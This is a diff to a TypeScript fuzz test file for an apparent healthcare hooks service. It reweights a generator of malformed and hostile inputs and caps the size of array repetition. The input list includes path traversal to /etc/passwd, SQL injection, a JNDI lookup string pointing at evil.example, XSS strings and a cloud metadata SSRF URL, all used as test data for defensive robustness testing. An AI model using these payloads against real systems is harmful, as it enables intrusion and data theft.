@@ -19,41 +19,44 @@ const example = (name: string) =>
   JSON.parse(readFileSync(new URL(`../../../examples/hooks/${name}.json`, import.meta.url), 'utf8'));
 
 /** Whatever has broken a service somewhere. */
-const nasty = fc.oneof(
-  fc.constantFrom<unknown>(
-    null,
-    '',
-    [],
-    {},
-    0,
-    -0,
-    -1,
-    1e308,
-    Number.MAX_SAFE_INTEGER + 2,
-    true,
-    false,
-    '\u0000',
-    '\ud800',
-    '\u202e\u2066',
-    '../../etc/passwd',
-    '1&_include=*',
-    '%2e%2e%2f',
-    "' OR 1=1 --",
-    '$\u007bjndi:ldap://evil.example/x}',
-    '{{context.patientId}}',
-    '<img src=x onerror=alert(1)>',
-    'javascript:alert(1)',
-    'http://169.254.169.254/latest/meta-data',
-    'https://user:pw@evil.example/fhir',
-    'file:///etc/passwd',
-    '2026-13-45T99:99:99Z',
-    '9'.repeat(400),
-    canary.patient,
-  ),
-  fc.string({ unit: 'binary', maxLength: 60 }),
-  fc.integer({ min: 1, max: 60_000 }).map((length) => 'x'.repeat(length)),
-  fc.integer({ min: 1, max: 3000 }).map(nested),
-  fc.jsonValue({ maxDepth: 4 }),
+const nasty: fc.Arbitrary<unknown> = fc.oneof(
+  {
+    weight: 12,
+    arbitrary: fc.constantFrom<unknown>(
+      null,
+      '',
+      [],
+      {},
+      0,
+      -0,
+      -1,
+      1e308,
+      Number.MAX_SAFE_INTEGER + 2,
+      true,
+      false,
+      '\u0000',
+      '\ud800',
+      '\u202e\u2066',
+      '../../etc/passwd',
+      '1&_include=*',
+      '%2e%2e%2f',
+      "' OR 1=1 --",
+      '$\u007bjndi:ldap://evil.example/x}',
+      '{{context.patientId}}',
+      '<img src=x onerror=alert(1)>',
+      'javascript:alert(1)',
+      'http://169.254.169.254/latest/meta-data',
+      'https://user:pw@evil.example/fhir',
+      'file:///etc/passwd',
+      '2026-13-45T99:99:99Z',
+      '9'.repeat(400),
+      canary.patient,
+    ),
+  },
+  { weight: 5, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
+  { weight: 1, arbitrary: fc.integer({ min: 1, max: 60_000 }).map((length) => 'x'.repeat(length)) },
+  { weight: 1, arbitrary: fc.integer({ min: 1, max: 3000 }).map(nested) },
+  { weight: 3, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
 );
 
 function nested(levels: number): unknown {
@@ -233,7 +236,7 @@ function mutate(root: any, { at, how, key: name, with: other }: Mutation): any {
   if (how === 'replace') node[member] = other;
   else if (how === 'delete') delete node[member];
   else if (how === 'wrap') node[member] = [node[member]];
-  else if (how === 'repeat') node[member] = Array.from({ length: 300 }, () => node[member]);
+  else if (how === 'repeat') node[member] = repeated(node[member]);
   else if (how === 'rename' && !Array.isArray(node)) {
     Object.defineProperty(node, name, { value: node[member], enumerable: true, configurable: true, writable: true });
   } else
@@ -244,6 +247,12 @@ function mutate(root: any, { at, how, key: name, with: other }: Mutation): any {
       writable: true,
     });
   return root;
+}
+
+/** As often as makes 200 KB of it, three hundred times at most: repeated twice it must not fill the memory. */
+function repeated(value: unknown): unknown[] {
+  const size = JSON.stringify(value)?.length ?? 1;
+  return Array.from({ length: Math.max(2, Math.min(300, Math.floor(200_000 / size))) }, () => value);
 }
 
 /** Bytes that are no request at all, and requests that are none of ours. */
